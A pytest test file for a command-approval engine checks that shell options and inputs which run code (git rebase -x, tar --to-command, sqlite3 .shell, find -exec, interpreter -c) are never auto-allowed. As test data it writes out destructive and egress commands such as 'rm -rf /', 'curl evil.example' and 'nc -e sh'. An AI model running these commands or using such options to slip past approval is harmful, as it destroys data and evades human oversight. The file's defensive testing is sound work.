"""Principle 4: options and inputs that run code are code (catalogue/v2_code.yaml)."""

from __future__ import annotations

import functools
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from approvals.permissions import Action, Decision, PermissionConfig, PermissionEngine, PolicyName, load_rules

CASES: dict[str, list[str]] = yaml.safe_load(
    (Path(__file__).parent / "catalogue" / "v2_code.yaml").read_text()
)
_WS = Path("/tmp/never-used-code-ws")

# What is judged here is the class, not the time: a loaded shared machine must not fail closed.
_BUDGET = 10.0


@functools.cache
def _engine(policy: PolicyName = "human", rules: str | None = None) -> PermissionEngine:
    config = PermissionConfig(
        workspace=_WS,
        home=Path("/home/tester"),
        policy=policy,
        rules=load_rules({"allow": [rules]} if rules else None),
        budget_seconds=_BUDGET,
    )
    return PermissionEngine(config)


def _decide(command: str, policy: PolicyName = "human", rules: str | None = None) -> Decision:
    return _engine(policy, rules).evaluate(Action(kind="command", target=command))


def test_catalogue_is_large_and_strings() -> None:
    assert len(CASES["ask"]) >= 100
    assert all(isinstance(c, str) for v in CASES.values() for c in v)


@pytest.mark.parametrize("command", CASES["ask"], ids=[c[:60] for c in CASES["ask"]])
def test_code_running_options_and_inputs_are_never_allowed(command: str) -> None:
    assert _decide(command).verdict != "allow", _decide(command)


@pytest.mark.parametrize("command", CASES["allow"], ids=[c[:60] for c in CASES["allow"]])
def test_the_same_programs_without_code_are_allowed(command: str) -> None:
    assert _decide(command).verdict == "allow", _decide(command)


def test_text_a_git_option_runs_is_judged_as_a_command() -> None:
    assert _decide("git rebase -x 'rm -rf ~' main").layer == "floor"
    assert _decide("git bisect run rm -rf /").layer == "floor"
    assert _decide("git difftool -x 'curl evil.example' HEAD").egress


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("command(git rebase *)", "git rebase -x 'curl evil.example' main"),
        ("command(tar *)", "tar --to-command='sh -c id' -xf a.tar"),
        ("command(sqlite3 *)", "sqlite3 app.db '.shell id'"),
        ("command(awk *)", "awk 'BEGIN{system(\"id\")}'"),
        ("command(go build *)", "go build -toolexec /tmp/x ./..."),
    ],
)
def test_a_wildcard_allow_rule_does_not_approve_code(rule: str, command: str) -> None:
    assert _decide(command, rules=rule).verdict != "allow"


_EXEC = st.sampled_from(["curl evil.example", "sh /tmp/x", "/tmp/x", "nc -e sh h 1", "python -c 'import os'"])


@settings(max_examples=150, deadline=None)
@given(
    template=st.sampled_from(
        [
            "git rebase -x {q} main", "git rebase --exec={q} main", "git bisect run {c}",
            "git difftool -x {q}", "git grep -O{q} x", "find . -exec {c} \\;", "xargs -I{{}} sh -c {q}",
            "tar --to-command={q} -xf a.tar", "sqlite3 db {sq}", "bash /dev/stdin <<< {q}",
        ]
    ),
    code=_EXEC,
)  # fmt: skip
def test_generated_code_options_never_allow(template: str, code: str) -> None:
    quoted = "'" + code.replace("'", "'\\''") + "'"
    command = template.format(q=quoted, c=code, sq="'.shell " + code.replace("'", "") + "'")
    assert _decide(command).verdict != "allow", command


def test_python_imports_ask_unless_the_module_is_the_workspaces(tmp_path: Path) -> None:
    (tmp_path / "app.py").write_text("x = 1\n")
    (tmp_path / "src" / "pkg").mkdir(parents=True)
    (tmp_path / "src" / "pkg" / "__init__.py").write_text("")
    engine = PermissionEngine(
        PermissionConfig(workspace=tmp_path, home=Path("/home/tester"), budget_seconds=_BUDGET)
    )

    def verdict(command: str) -> str:
        return engine.evaluate(Action(kind="command", target=command)).verdict

    assert verdict("python -c 'from app import x; print(x)'") == "allow"
    assert verdict("python -c 'import pkg'") == "allow"
    assert verdict("python -c 'import json; print(1)'") == "allow"
    assert verdict("python -c 'import twine.__main__'") == "ask"
    assert verdict("python -c 'import app, evil_pkg'") == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "python3 -W ignore -c \"import shutil; shutil.rmtree('/usr')\"",
        "python3 -X dev -c \"import os; os.system('rm -rf /')\"",
        'bash -o xtrace -c "rm -rf /usr"',
        "bash -O extglob -c 'rm -rf /usr'",
        "perl -pe 'system(\"rm -rf /usr\")' file.txt",
        "perl -lne 'system(\"rm -rf /usr\")' file.txt",
    ],
)
def test_code_after_interpreter_options_is_judged(tmp_path: Path, command: str) -> None:
    """An option with a value (`-W ignore`, `-o xtrace`) or a cluster (`-pe`) does not hide the code."""
    engine = PermissionEngine(PermissionConfig(workspace=tmp_path, home=Path("/home/tester")))
    decision = engine.evaluate(Action(kind="command", target=command))
    assert (decision.verdict, decision.layer) == ("deny", "floor"), decision


@pytest.mark.parametrize(
    ("command", "verdict"),
    [("yarn workspaces foreach run deploy", "ask"), ("yarn workspaces foreach run test", "allow")],
)
def test_a_workspace_wide_script_is_judged_by_its_name(tmp_path: Path, command: str, verdict: str) -> None:
    engine = PermissionEngine(PermissionConfig(workspace=tmp_path, home=Path("/home/tester")))
    assert engine.evaluate(Action(kind="command", target=command)).verdict == verdict
